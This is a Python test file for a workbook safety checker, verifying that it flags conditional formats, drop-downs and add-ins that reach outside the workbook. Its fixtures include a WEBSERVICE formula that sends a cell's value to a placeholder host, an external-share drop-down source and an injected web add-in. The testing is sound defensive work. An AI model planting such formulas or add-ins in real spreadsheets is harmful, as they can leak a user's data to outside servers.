"""Conditional formats, drop-downs and add-ins of a workbook that reach out of it."""

from io import BytesIO

import openpyxl
from builder import clean_plan
from openpyxl.formatting.rule import FormulaRule
from openpyxl.worksheet.datavalidation import DataValidation

from plan_workbook.checking.report import check
from plan_workbook.package.safety import open_package
from plan_workbook.reading import read_plan

ADD_IN = "application/vnd.ms-office.webextension+xml"


def test_a_conditional_format_or_drop_down_that_reaches_out_is_named_with_its_cell():
    book = openpyxl.load_workbook(BytesIO(clean_plan().template()))
    sheet = book["R01"]
    sheet.conditional_formatting.add("Y1:Y9", FormulaRule(formula=['WEBSERVICE("http://example.com/"&A3)="1"']))
    sheet.conditional_formatting.add("Z5", FormulaRule(formula=['WEBSERVICE("http://example.com")=2']))
    choices = DataValidation(type="list", formula1="'//share/[b.xlsx]S'!$A$1:$A$3", sqref="Y3")
    sheet.data_validations.dataValidation.insert(0, choices)
    saved = BytesIO()
    book.save(saved)
    findings = [each for each in check(read_plan(saved.getvalue())).findings if each.rule == "external-link"]
    said = {each.cell: each.message for each in findings}
    does = "A conditional format or drop-down of this cell reaches out of the workbook as soon as Excel may work it out"
    assert said == {
        "Y1": f"{does}: 'WEBSERVICE'. Others on this sheet are at Z5.",
        "Y3": f"{does}: '//share/b.xlsx'.",
    }
    assert all("Data > Data Validation" in each.fix and "agree to nothing" in each.fix for each in findings)


def test_an_add_in_that_a_workbook_opens_is_named_with_how_to_remove_it():
    package = open_package(clean_plan().template())
    part = (
        '<we:webextension xmlns:we="http://schemas.microsoft.com/office/webextensions/webextension/2010/11">'
        '<we:reference id="wa104000000" version="1.0.0.0" store="en-US" storeType="OMEX"/></we:webextension>'
    )
    package.add("xl/webextensions/webextension1.xml", part.encode(), ADD_IN)
    (found,) = check(read_plan(package.to_bytes())).findings
    assert (found.rule, found.cell) == ("external-link", None)
    assert found.message == "The workbook opens an add-in, 'wa104000000': a web page that can read what is in it."
    assert "Inspect Document" in found.fix and "agree to nothing" in found.fix
